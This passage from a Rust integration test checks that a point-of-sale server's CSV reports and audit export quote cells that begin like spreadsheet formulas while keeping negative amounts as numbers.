            let formula = name.starts_with(['=', '+', '-', '@']) && name.parse::<f64>().is_err();
            let text = if formula { format!("'{name}") } else { name.to_string() };
            (format!("'@C{i}"), text)
        })
        .collect();
    expected.sort();
    assert_eq!(written, expected, "every cell that starts like a formula is neutralised: {}", top.text);

    // A negative amount is a number, written as one.
    let reversals =
        till.server.get(&format!("/api/v1/reports/reversals?{period}&format=csv"), Some(&till.token));
    let rows = csv_cells(&reversals.text);
    let gross = rows[0].iter().position(|c| c == "gross").unwrap();
    assert_eq!(rows[1][gross], "-285.00", "{}", reversals.text);

    // The audit trail's CSV too: a POS's request id is its own text.
    let bearer = format!("Bearer {}", till.token);
    let deposit = serde_json::to_vec(&json!({"amount": 5})).unwrap();
    let reply = till.server.request(
        "POST",
        "/api/v1/cash-register/deposit",
        &[("Authorization", &bearer), ("X-Request-Id", "-pos:1")],
        Some(("application/json", &deposit)),
    );
    assert!(reply.status < 300, "{}", reply.text);
    let audit = till.server.get("/api/v1/audit?format=csv", Some(&till.token));
    let rows = csv_cells(&audit.text);
    let request_id = rows[0].iter().position(|c| c == "request_id").unwrap();
    assert!(rows[1..].iter().any(|r| r[request_id] == "'-pos:1"), "{}", audit.text);
    assert!(rows[1..].iter().all(|r| r[request_id] != "-pos:1"), "{}", audit.text);
}
